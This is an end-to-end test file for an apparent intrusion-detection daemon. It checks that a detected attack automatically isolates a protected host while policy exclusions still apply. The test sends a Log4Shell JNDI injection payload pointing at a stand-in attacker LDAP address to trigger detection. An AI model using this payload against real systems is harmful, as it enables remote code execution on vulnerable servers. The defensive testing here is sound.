/**
 * Automatic isolation through the live pipeline: a real attack detected by the engine in the
 * daemon triggers the isolation policy; the policy exclusions apply and the device ones do not.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { createTestNet, type Host, type TestNet } from './netns.js';
import { startDaemon, ROOT, type DaemonHandle } from './daemon.js';

const CLIENT = join(ROOT, 'test', 'e2e', 'tools', 'tcp-client.mjs');

async function tcp(from: Host, o: Record<string, unknown>): Promise<{ connected: boolean; error: string | null }> {
  const r = await from.exec(process.execPath, [CLIENT, JSON.stringify(o)], { timeoutMs: 20_000 });
  assert.equal(r.code, 0, r.stderr);
  return JSON.parse(r.stdout.trim().split('\n').pop() ?? '{}') as { connected: boolean; error: string | null };
}

let net: TestNet;
let daemon: DaemonHandle;

before(async () => {
  net = await createTestNet(['attacker', 'protected', 'policyhost', 'devicehost']);
  const prot = net.host('protected');
  prot.spawn(process.execPath, ['-e', "require('http').createServer((q,s)=>{s.end('ok\\n')}).listen(8080)"]);
  daemon = await startDaemon(prot, {
    config: {
      protection: { enabled: true }, // local-only hosts are off by default
      interfaces: ['eth0'],
      isolation: {
        policy: { enabled: true, severities: [], signatureIds: [9000200], detectors: [] },
        exclusions: [
          { direction: 'inbound', protocol: 'tcp', remoteAddress: net.host('policyhost').ip4, localPorts: '8080', remotePorts: 'any', description: 'policy: SOC host', status: 'active' },
        ],
        profiles: [],
      },
    },
    readyTimeoutMs: 30_000,
  });
  await daemon.waitForLog((e) => e.msg === 'protection enabled', 20_000);
  const add = await daemon.cli(['isolation', 'exclusions', 'add', '--direction', 'inbound', '--protocol', 'tcp', '--remote', net.host('devicehost').ip4, '--local-ports', '8080', '--description', 'device: jump host']);
  assert.equal(add.code, 0, add.stderr + add.stdout);
});

after(async () => {
  await daemon.destroy();
  await net.destroy();
});

test('a Log4Shell detection isolates the host automatically with the policy exclusions only', async () => {
  const prot = net.host('protected');
  const before = await tcp(net.host('devicehost'), { host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\n\r\n' });
  assert.equal(before.connected, true, 'reachable before isolation');
  await tcp(net.host('attacker'), { host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://203.0.113.7/a}\r\n\r\n' });
  let st: { isolated: boolean; mode: string; tag?: string; event?: { sid?: number; signature_id?: number } } = { isolated: false, mode: '' };
  for (let i = 0; i < 50 && !st.isolated; i++) {
    st = JSON.parse((await daemon.cli(['isolation', 'status', '--json'])).stdout) as typeof st;
    if (!st.isolated) await new Promise((r) => setTimeout(r, 200));
  }
  assert.equal(st.isolated, true, 'isolated by the policy');
  assert.equal(st.mode, 'automatic');
  assert.equal(st.tag, 'ISOLATED FROM NETWORK');
  const policy = await tcp(net.host('policyhost'), { host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\n\r\n', connectTimeoutMs: 2000 });
  assert.equal(policy.connected, true, 'policy exclusion applies to automatic isolation');
  const device = await tcp(net.host('devicehost'), { host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\n\r\n', connectTimeoutMs: 2000 });
  assert.equal(device.connected, false, 'device exclusion does not apply to automatic isolation');
  const off = await daemon.cli(['isolation', 'off']);
  assert.equal(off.code, 0, off.stderr);
  const after = await tcp(net.host('devicehost'), { host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\n\r\n' });
  assert.equal(after.connected, true, 'reachable after isolation off');
});
